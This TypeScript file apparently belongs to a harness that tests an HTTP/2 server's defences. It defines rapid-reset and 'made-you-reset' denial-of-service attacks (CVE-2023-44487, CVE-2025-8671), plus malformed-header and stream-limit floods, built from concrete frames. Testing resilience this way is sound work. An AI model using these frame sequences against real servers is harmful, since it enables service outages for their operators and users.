/** Requests that make work and are not wanted: taken back at once, or so wrong that the server takes them back (CVE-2023-44487, CVE-2025-8671). */
import { data, FLAG, headers, priorityFields, rstStream, windowUpdate, WINDOW_BYTES_MAX } from '../frames.ts'
import { indexed, literal } from '../hpack-encode.ts'
import type { Attack, AttackLine } from './attack.ts'

const CANCEL = 8
const ENDS = FLAG.endStream | FLAG.endHeaders

/** `request` gives the frames of one on a stream. */
function requests(name: string, request: (line: AttackLine, stream: number) => readonly Uint8Array[]): Attack {
  return {
    name,
    endedBy: 'weir',
    together: 2,
    strike: (line) => {
      line.begin()
      return line.pour(() => Buffer.concat(request(line, line.next())))
    },
  }
}

export const streamAttacks: readonly Attack[] = [
  requests('rapid-reset', (line, stream) => [line.head(ENDS, '/never', [], stream), rstStream(stream, CANCEL)]),
  requests('rapid-reset-of-answered', (line, stream) => [line.head(ENDS, '/', [], stream), rstStream(stream, CANCEL)]),
  requests('rapid-reset-of-denied', (line, stream) => [
    line.head(ENDS, '/forbidden/x', [], stream),
    rstStream(stream, CANCEL),
  ]),
  // Node ends the answer to a HEAD before it is begun.
  requests('rapid-reset-of-heads', (line, stream) => {
    const fields = [literal(2, 'HEAD'), indexed(7), literal(1, line.authority), literal(4, '/never')]
    return [headers(stream, Buffer.concat(fields), ENDS), rstStream(stream, CANCEL)]
  }),
  requests('rapid-reset-of-uploads', (line, stream) => [
    line.post([], '/count', stream),
    data(stream, 'content'),
    rstStream(stream, CANCEL),
  ]),
  requests('made-you-reset-by-window-update-of-0', (line, stream) => [
    line.head(ENDS, '/never', [], stream),
    windowUpdate(stream, 0),
  ]),
  requests('made-you-reset-by-window-overflow', (line, stream) => [
    line.head(ENDS, '/never', [], stream),
    windowUpdate(stream, WINDOW_BYTES_MAX),
  ]),
  requests('made-you-reset-by-data-past-length', (line, stream) => [
    line.post([['content-length', '1']], '/count', stream),
    data(stream, '12'),
  ]),
  requests('made-you-reset-by-data-past-end', (line, stream) => [
    line.head(ENDS, '/never', [], stream),
    data(stream, '1'),
  ]),
  requests('made-you-reset-by-head-past-end', (line, stream) => [
    line.head(ENDS, '/never', [], stream),
    headers(stream, literal('x', 'y'), ENDS),
  ]),
  requests('made-you-reset-by-priority-of-itself', (line, stream) => [
    line.head(ENDS, '/never', [], stream),
    headers(stream + 2, Buffer.concat([priorityFields(stream + 2), indexed(2)]), ENDS | FLAG.priority),
  ]),
  requests('made-you-reset-by-trailers-that-go-on', (line, stream) => [
    line.post([], '/count', stream),
    headers(stream, literal('x', 'y'), FLAG.endHeaders),
  ]),
  requests('malformed-heads', (line, stream) => [line.head(ENDS, '/', [literal('Upper', 'x')], stream)]),
  requests('heads-of-two-readings', (line, stream) => [
    line.head(ENDS, '/', [literal('host', 'other.example')], stream),
  ]),
  requests('streams-past-http2StreamsMax', (line, stream) => [line.head(ENDS, '/never', [], stream)]),
]
